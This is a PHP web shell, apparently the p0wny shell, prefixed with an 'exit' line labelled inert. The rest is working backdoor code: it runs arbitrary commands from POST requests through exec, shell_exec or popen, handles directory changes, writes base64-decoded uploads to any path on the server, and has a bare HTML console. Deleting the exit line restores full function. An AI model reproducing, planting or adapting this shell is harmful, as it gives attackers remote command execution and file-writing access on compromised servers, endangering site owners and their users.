<?php exit; /* inert */ $SHELL_CONFIG = array('username' => 'p0wny', 'hostname' => 'shell');
function allFunctionExist($list = array()) { foreach ($list as $e) { if (!function_exists($e)) { return false; } } return true; }
function executeCommand($cmd) {
    $output = '';
    if (function_exists('exec')) { exec($cmd, $output); $output = implode("\n", $output); }
    else if (function_exists('shell_exec')) { $output = shell_exec($cmd); }
    else if (allFunctionExist(array('popen', 'feof', 'fread', 'pclose'))) {
        $handle = popen($cmd, 'r');
        while (!feof($handle)) { $output .= fread($handle, 4096); }
        pclose($handle);
    }
    return $output;
}
function featureShell($cmd, $cwd) {
    chdir($cwd);
    if (preg_match("/^\s*cd\s+(.+)\s*(2>&1)?$/", $cmd, $match)) { chdir($match[1]); $stdout = ''; }
    else { $stdout = executeCommand($cmd . ' 2>&1'); }
    return array("stdout" => base64_encode($stdout), "cwd" => base64_encode(getcwd()));
}
function featureUpload($path, $file, $cwd) {
    chdir($cwd);
    $f = @fopen($path, 'wb');
    fwrite($f, base64_decode($file));
    fclose($f);
    return array('stdout' => base64_encode('Done.'));
}
if (isset($_GET["feature"])) {
    $response = NULL;
    switch ($_GET["feature"]) {
        case "shell": $response = featureShell($_POST['cmd'] , $_POST["cwd"]); break;
        case "pwd": $response = array("cwd" => base64_encode(getcwd())); break;
        case "upload": $response = featureUpload($_POST['path'], $_POST['file'], $_POST['cwd']); break;
    }
    header("Content-Type: application/json");
    echo json_encode($response);
    die();
}
?><!DOCTYPE html><html><body><div id="shell"><pre id="shell-content"></pre><input id="shell-cmd"></div></body></html>
